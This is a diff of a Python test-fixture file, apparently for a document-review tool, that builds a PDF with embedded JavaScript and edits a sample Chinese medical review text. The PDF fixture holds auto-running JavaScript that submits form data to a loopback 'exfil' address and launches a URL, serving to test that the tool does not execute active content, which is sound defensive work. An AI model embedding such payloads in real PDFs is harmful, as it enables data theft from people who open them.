@@ -247,7 +247,16 @@ def active_content_pdf() -> bytes:
     from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
 
     w = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(good_pdf())))
-    w.add_js("app.alert('reviewx must not run this'); this.submitForm('http://127.0.0.1:9/exfil');")
+    js = DictionaryObject({
+        NameObject("/S"): NameObject("/JavaScript"),
+        NameObject("/JS"): TextStringObject("app.alert('reviewx must not run this'); "
+                                            "this.submitForm('http://127.0.0.1:9/exfil');"),
+    })
+    w._root_object[NameObject("/Names")] = DictionaryObject({
+        NameObject("/JavaScript"): DictionaryObject({
+            NameObject("/Names"): ArrayObject([TextStringObject("auto"), w._add_object(js)]),
+        }),
+    })
     w._root_object[NameObject("/OpenAction")] = DictionaryObject({
         NameObject("/S"): NameObject("/JavaScript"),
         NameObject("/JS"): TextStringObject("app.launchURL('http://127.0.0.1:9/open', true);"),
@@ -282,16 +291,16 @@ def active_content_pdf() -> bytes:
 BIG5_REVIEW = """類風濕關節炎靶向治療的研究進展
 陳立新，王婷
 (台灣大學醫學院附設醫院風濕免疫科，台北 100)
-摘要：類風濕關節炎是一種以慢性滑膜炎為主要特徵的自身免疫性疾病。近年來，生物製劑與小分子靶向藥物的問世顯著改善了患者的預後。文中就腫瘤壞死因子抑制劑、白細胞介素6受體拮抗劑及詹納斯激酶抑制劑的臨床研究進展進行綜述。
+摘要：類風濕關節炎是一種以慢性滑膜炎為主要特徵的自身免疫性疾病。近年來，生物製劑與小分子靶向藥物的問世顯著改善了患者的預後。文中就腫瘤壞死因子抑制劑、白細胞介素6受體拮抗劑及JAK抑制劑的臨床研究進展進行綜述。
 1 腫瘤壞死因子抑制劑
 腫瘤壞死因子抑制劑是最早應用於臨床的生物製劑。阿達木單抗每2週皮下注射40 mg，可顯著降低疾病活動度，並延緩骨破壞的進展[1]。多項隨機對照試驗證實，聯合甲氨蝶呤治療的療效優於單藥治療。
-2 詹納斯激酶抑制劑
+2 JAK抑制劑
 托法替布每日2次口服5 mg，在甲氨蝶呤療效不佳的患者中仍可獲得較高的緩解率[2]。然而，此類藥物可能增加帶狀皰疹及靜脈血栓栓塞的風險，用藥前應充分評估。
 3 結語
 靶向治療為類風濕關節炎患者帶來了新的希望，但如何選擇個體化的治療方案仍有待進一步研究。
 參考文獻
 [1] 陳立新. 類風濕關節炎的生物治療[J]. 中華風濕病學雜誌, 2020, 24(3): 145-150.
-[2] 王婷. 詹納斯激酶抑制劑的臨床應用[J]. 中華內科雜誌, 2021, 60(5): 401-405.
+[2] 王婷. JAK抑制劑的臨床應用[J]. 中華內科雜誌, 2021, 60(5): 401-405.
 """
 
 ENGLISH_REVIEW = """Advances in the treatment of amyotrophic lateral sclerosis
